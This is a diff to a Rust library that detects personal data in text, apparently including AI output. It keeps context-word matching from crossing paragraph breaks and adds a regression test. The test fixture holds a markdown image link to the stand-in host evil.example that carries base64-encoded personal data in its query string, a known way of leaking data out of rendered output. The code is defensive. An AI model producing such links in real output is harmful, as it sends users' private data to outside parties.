@@ -502,12 +502,17 @@ fn context_before(text: &str, start: usize, words: &WordList) -> bool {
     context_before_n(text, start, 40, words)
 }
 
+/// Context never crosses a paragraph break: that is also the separator before decoded
+/// segments, and a word at the end of the text must not lend its context to a value
+/// decoded from elsewhere (nor may a stream's chunking change what is found).
 fn context_before_n(text: &str, start: usize, window: usize, words: &WordList) -> bool {
     let mut from = start.saturating_sub(window);
     while !text.is_char_boundary(from) {
         from += 1;
     }
-    contains_any(&text[from..start], words)
+    let window = &text[from..start];
+    let window = window.rfind("\n\n").map_or(window, |i| &window[i + 2..]);
+    contains_any(window, words)
 }
 
 /// Where the last of `words` ends in the 40 bytes before `start`, if any.
@@ -516,9 +521,13 @@ fn last_word_before(text: &str, start: usize, words: &WordList) -> Option<usize>
     while !text.is_char_boundary(from) {
         from += 1;
     }
+    let window = &text[from..start];
+    // Not across a paragraph break (see `context_before_n`); offsets stay window-relative,
+    // which is all the comparison between two word lists needs.
+    let window = window.rfind("\n\n").map_or(window, |i| &window[i + 2..]);
     words
         .matcher()
-        .find_overlapping_iter(&text[from..start])
+        .find_overlapping_iter(window)
         .map(|m| m.end())
         .max()
 }
@@ -528,7 +537,9 @@ fn context_after(text: &str, end: usize, words: &WordList) -> bool {
     while !text.is_char_boundary(to) {
         to -= 1;
     }
-    contains_any(&text[end..to], words)
+    let window = &text[end..to];
+    let window = window.find("\n\n").map_or(window, |i| &window[..i]);
+    contains_any(window, words)
 }
 
 fn contains_any(window: &str, words: &WordList) -> bool {
@@ -1121,6 +1132,27 @@ mod tests {
             "data: Y29udGFjdCBhbmFAZXhhbXBsZS5lcw== end",
             "EMAIL_ADDRESS",
             "Y29udGFjdCBhbmFAZXhhbXBsZS5lcw==",
+        );
+    }
+}
+
+#[cfg(test)]
+mod context_boundary_tests {
+    use crate::{Context, Guard, Policy};
+
+    /// Regression: a context word at the end of the text ("Contact") made the phone
+    /// rule fire on digits decoded from a base64 blob earlier in the text, so a stream
+    /// chunk ending there found a phone that whole-text inspection did not.
+    #[test]
+    fn context_does_not_cross_into_decoded_segments() {
+        let g = Guard::new(Policy::default()).unwrap();
+        let t =
+            "![x](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) and more. Contact";
+        let d = g.detect(t, Context::output()).unwrap();
+        assert!(
+            d.findings.iter().all(|f| f.entity != "PHONE_NUMBER"),
+            "{:?}",
+            d.findings
         );
     }
 }
